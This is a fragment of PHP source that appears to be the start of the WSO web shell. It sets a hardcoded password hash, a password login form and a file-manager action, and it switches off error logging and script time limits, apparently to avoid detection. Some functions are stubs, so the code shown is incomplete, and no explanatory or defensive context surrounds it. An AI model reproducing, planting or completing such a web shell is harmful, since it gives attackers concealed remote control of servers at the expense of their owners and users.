<?php
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
$default_action = 'FilesMan';
$default_use_ajax = true;
$default_charset = 'Windows-1251';
@ini_set('error_log', NULL);
@ini_set('log_errors', 0);
@set_time_limit(0);
function wsoLogin() {
    die("<pre align=center><form method=post>Password: <input type=password name=pass><input type=submit value='>>'></form></pre>");
}
function wsoHeader() { echo '<title>' . $_SERVER['HTTP_HOST'] . '</title>'; }
function actionFilesMan() { echo 'files'; }
